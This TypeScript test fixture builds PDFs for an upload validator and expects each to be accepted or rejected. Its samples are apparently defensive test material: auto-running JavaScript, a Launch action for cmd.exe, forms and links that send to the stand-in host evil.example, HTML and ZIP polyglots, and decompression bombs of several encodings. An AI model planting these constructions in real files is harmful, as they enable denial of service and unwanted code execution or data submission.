/** Hostile and harmless PDFs, with the expected result when they are uploaded as signed documents. */
import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import { signatureFileSize } from '../../../src/domain/text/limits.ts'
import type { HostileFile } from './hostile-file.ts'
import { lzw } from './lzw.ts'
import { misleadingFiles } from './misleading-tables.ts'
import { pdfOf, rawPdf } from './pdfs.ts'

const unsafe = 'cla.unsafe_pdf'
const damaged = 'cla.error_reading_file'

const text = (words: string): Uint8Array => new Uint8Array(Buffer.from(words, 'latin1'))
const joined = (...parts: (Uint8Array | string)[]): Uint8Array =>
  new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part))))

const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'

const withCatalog = (entries: string, ...objects: string[]): Uint8Array =>
  rawPdf([`<< /Type /Catalog /Pages 2 0 R ${entries} >>`, pages, page, ...objects])

const withPage = (entries: string, ...objects: string[]): Uint8Array =>
  rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    pages,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${entries} >>`,
    ...objects,
  ])

const stream = (dictionary: string, bytes: Uint8Array, length = bytes.length): string =>
  `<< ${dictionary} /Length ${length} >>\nstream\n${Buffer.from(bytes).toString('latin1')}\nendstream`

/** Returns a PDF of exactly `size` bytes with an image, like a scanned document. */
export function aScanOf(size: number): Uint8Array {
  const scan = (fill: number): Uint8Array =>
    withPage(
      '/Contents 4 0 R',
      stream('', text('q Q')),
      stream('/Type /XObject /Subtype /Image /Width 1 /Height 1', text('x'.repeat(fill))),
    )
  const first = scan(size - 1000)
  return scan(size - 1000 + size - first.length)
}

const signed = (options: PDFKit.PDFDocumentOptions = {}): Promise<Uint8Array> =>
  pdfOf((pdf) => void pdf.text('Signed and stamped'), options)

/** Returns a PDF with a script whose objects are in object streams, as current word processors write them. */
async function packedScript(): Promise<Uint8Array> {
  const document = await PDFDocument.create()
  document.addPage()
  const script = document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })
  document.catalog.set(PDFName.of('OpenAction'), document.context.register(script))
  return document.save({ useObjectStreams: true })
}

async function attached(): Promise<Uint8Array> {
  const document = await PDFDocument.load(await signed())
  await document.attach(text('MZ'), 'invoice.exe')
  return document.save()
}

async function manyPages(count: number): Promise<Uint8Array> {
  const document = await PDFDocument.create()
  for (let number = 0; number < count; number += 1) document.addPage([10, 10])
  return document.save()
}

const zeros = (megabytes: number): Uint8Array => Buffer.alloc(megabytes * 1024 * 1024)

/** Returns a decompression bomb: an object stream that is many times larger than the file when it is decompressed. */
const packedObjects = (filter: string, bytes: Uint8Array): Uint8Array =>
  withCatalog('', stream(`/Type /ObjStm /N 1 /First 4 /Filter ${filter}`, bytes))

const content = (filter: string, bytes: Uint8Array): Uint8Array =>
  withPage('/Contents 4 0 R', stream(`/Filter ${filter}`, bytes))

const hex = (bytes: Uint8Array | string): string => `${Buffer.from(bytes as Uint8Array).toString('hex')}>`

/** Returns `size` spaces as run-length data, in runs of 128. */
const runs = (size: number): Uint8Array =>
  new Uint8Array(Buffer.concat([Buffer.from('\x81 '.repeat(Math.ceil(size / 128)), 'latin1'), Buffer.of(128)]))

/** Returns a PDF whose cross-reference table names itself as the previous table. */
const loopOfTables = (): Uint8Array => {
  const file = Buffer.from(withCatalog('')).toString('latin1')
  const start = file.lastIndexOf('xref\n0')
  return text(file.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${start}`))
}

const elsewhere = '<< /S /URI /URI (https://evil.example/) >>'
const active: readonly (readonly [string, string])[] = [
  ['a script that runs on opening', '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'],
  ['a script behind an escaped name', '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>'],
  ['a script by name', '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>'],
  ['a program to launch', '/OpenAction << /S /Launch /F (cmd.exe) >>'],
  ['a page of the web that opens by itself', '/OpenAction << /S /URI /URI (https://evil.example/) >>'],
  ['the same, as an indirect object', '/OpenAction 4 0 R'],
  ['something that happens on closing', '/AA << /WC << /S /URI /URI (https://evil.example/) >> >>'],
  ['another file to go to', '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>'],
  ['a form that sends itself', '/OpenAction << /S /SubmitForm /F (https://evil.example/) >>'],
  ['a form of another kind', '/AcroForm << /XFA [(a) (b)] >>'],
  ['an attachment by name', '/Names << /EmbeddedFiles << /Names [] >> >>'],
]

/** PDFs with active content inside object streams, as current word processors write them. */
export const packedFiles: readonly HostileFile[] = active.map(([name, entries]) => ({
  name: `${name}, packed away`,
  ends: unsafe,
  bytes: async () => {
    const document = await PDFDocument.load(withCatalog(entries, elsewhere))
    return document.save({ useObjectStreams: true })
  },
}))

export const hostileFiles: readonly HostileFile[] = [
  { name: 'a plain PDF', ends: 'done', bytes: () => signed() },
  {
    name: 'a PDF that opens at its first page',
    ends: 'done',
    bytes: () => withCatalog('/OpenAction [3 0 R /Fit]'),
  },
  {
    name: 'a PDF that opens at its first page by an action',
    ends: 'done',
    bytes: () => withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'),
  },
  { name: 'a scan of 5 MB but a byte', ends: 'done', bytes: () => aScanOf(signatureFileSize - 1) },
  { name: 'a scan of 5 MB', ends: 'done', bytes: () => aScanOf(signatureFileSize) },
  { name: 'a scan of a byte more', ends: 'cla.too_big_pdf', bytes: () => aScanOf(signatureFileSize + 1) },
  ...active.map(([name, entries]): HostileFile => {
    return { name, ends: unsafe, bytes: () => withCatalog(entries, elsewhere) }
  }),
  { name: 'a script packed away', ends: unsafe, bytes: packedScript },
  { name: 'an attachment', ends: unsafe, bytes: attached },
  {
    name: 'a video',
    ends: unsafe,
    bytes: () => withPage('/Annots [<< /Subtype /RichMedia >>]'),
  },
  { name: 'an encrypted file', ends: 'cla.locked_pdf', bytes: () => signed({ userPassword: 'secret' }) },
  { name: 'a file only its owner may change', ends: 'done', bytes: () => signed({ ownerPassword: 'secret' }) },
  {
    name: 'a web page too',
    ends: unsafe,
    bytes: () => rawPdf(['%<html><script>alert(1)</script>\n<< /Type /Catalog /Pages 2 0 R >>', pages, page]),
  },
  { name: 'an archive too', ends: unsafe, bytes: () => joined(withCatalog(''), 'PK\x05\x06', '\0'.repeat(18)) },
  { name: 'a script after its end', ends: unsafe, bytes: () => joined(withCatalog(''), '*/alert(1)') },
  { name: 'a PDF after a web page', ends: 'cla.wrong_file_type', bytes: () => joined('<html>', withCatalog('')) },
  { name: 'a picture', ends: 'cla.wrong_file_type', bytes: () => text('\x89PNG\r\n\x1a\n\0\0\0\rIHDR') },
  { name: 'a program', ends: 'cla.wrong_file_type', bytes: () => text('MZ\x90\0\x03') },
  { name: 'nothing', ends: damaged, bytes: () => text('') },
  { name: 'the beginning alone', ends: damaged, bytes: () => text('%PDF-1.7\n') },
  ...[0.1, 0.5, 0.95, 0.999].map((part): HostileFile => ({
    name: `${part * 100} % of a PDF`,
    ends: damaged,
    bytes: async () => {
      const whole = await signed()
      return whole.subarray(0, Math.floor(whole.length * part))
    },
  })),
  {
    name: 'a stream that says it is longer',
    ends: damaged,
    bytes: () => withPage('/Contents 4 0 R', stream('', text('q Q'), 4_000_000_000)),
  },
  {
    name: 'a stream that says it is shorter',
    ends: damaged,
    bytes: () => withPage('/Contents 4 0 R', stream('', text('q Q q Q'), 2)),
  },
  {
    name: 'a stream of no length',
    ends: damaged,
    bytes: () => withPage('/Contents 4 0 R', '<< >>\nstream\nq Q\nendstream'),
  },
  {
    name: 'no page',
    ends: damaged,
    bytes: () => rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
  },
  { name: 'too many pages', ends: damaged, bytes: () => manyPages(501) },
  {
    name: 'a tree of pages that leads to itself',
    ends: damaged,
    bytes: () => rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
  },
  { name: 'a table that leads to itself', ends: 'done', bytes: loopOfTables },
  { name: 'arrays in arrays', ends: damaged, bytes: () => withPage(`/Deep ${'['.repeat(1_000_000)}`) },
  { name: 'dictionaries in dictionaries', ends: damaged, bytes: () => withPage(`/Deep ${'<</A '.repeat(500_000)}`) },
  { name: 'a million objects', ends: damaged, bytes: () => withPage(`/Many [${'[] '.repeat(1_000_000)}]`) },
  {
    name: 'a bomb',
    ends: damaged,
    bytes: () => withPage('/Contents 4 0 R', stream('/Filter /FlateDecode', deflateSync(zeros(200)))),
  },
  { name: 'a bomb of objects', ends: damaged, bytes: () => packedObjects('/FlateDecode', deflateSync(zeros(200))) },
  {
    name: 'a bomb in a bomb',
    ends: damaged,
    bytes: () => packedObjects('[/FlateDecode /FlateDecode]', deflateSync(deflateSync(zeros(400)))),
  },
  {
    name: 'a bomb in a bomb of a page',
    ends: damaged,
    bytes: () =>
      withPage('/Contents 4 0 R', stream('/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(zeros(800))))),
  },
  {
    name: 'a bomb in letters',
    ends: damaged,
    bytes: () => packedObjects('[/ASCIIHexDecode /FlateDecode]', text(`${deflateSync(zeros(400)).toString('hex')}>`)),
  },
  { name: 'a bomb of LZW', ends: damaged, bytes: () => content('/LZWDecode', lzw(200 * 1024 * 1024)) },
  { name: 'a bomb of runs', ends: damaged, bytes: () => content('/RL', runs(200 * 1024 * 1024)) },
  {
    name: 'a bomb of LZW in letters',
    ends: damaged,
    bytes: () => content('[/AHx /A#48x /LZW]', text(hex(hex(lzw(200 * 1024 * 1024))))),
  },
  {
    name: 'bombs of runs, each small enough',
    ends: damaged,
    bytes: () =>
      withPage('', ...Array.from({ length: 4 }, () => stream('/Filter /RunLengthDecode', runs(40 * 1024 * 1024)))),
  },
  {
    name: 'a bomb whose filters are an indirect object',
    ends: damaged,
    bytes: () => withPage('/Contents 4 0 R', stream('/Filter 5 0 R', lzw(200 * 1024 * 1024)), '/LZWDecode'),
  },
  {
    name: 'a bomb of a fax that is no picture',
    ends: damaged,
    bytes: () => content('/CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 >>', new Uint8Array(500_000).fill(0xff)),
  },
  { name: 'a page in LZW', ends: 'done', bytes: () => content('/LZWDecode', lzw(100)) },
  { name: 'a page in runs', ends: 'done', bytes: () => content('/RunLengthDecode', runs(100)) },
  {
    name: 'a page in letters',
    ends: 'done',
    bytes: () => content('[/ASCIIHexDecode /FlateDecode]', text(hex(deflateSync(text('q Q'))))),
  },
  ...misleadingFiles,
]

/**
 * Returns a PDF that takes long to inspect: the length of each of its 4,000 streams is a reference to a missing object. A different `number` makes
 * the bytes differ.
 */
export const slowestBomb = (number: number): Uint8Array =>
  withPage(
    `/Number ${number}`,
    ...Array.from({ length: 4000 }, () => `<< /Length 9999 0 R >>\nstream\n${'x'.repeat(900)}\nendstream`),
  )
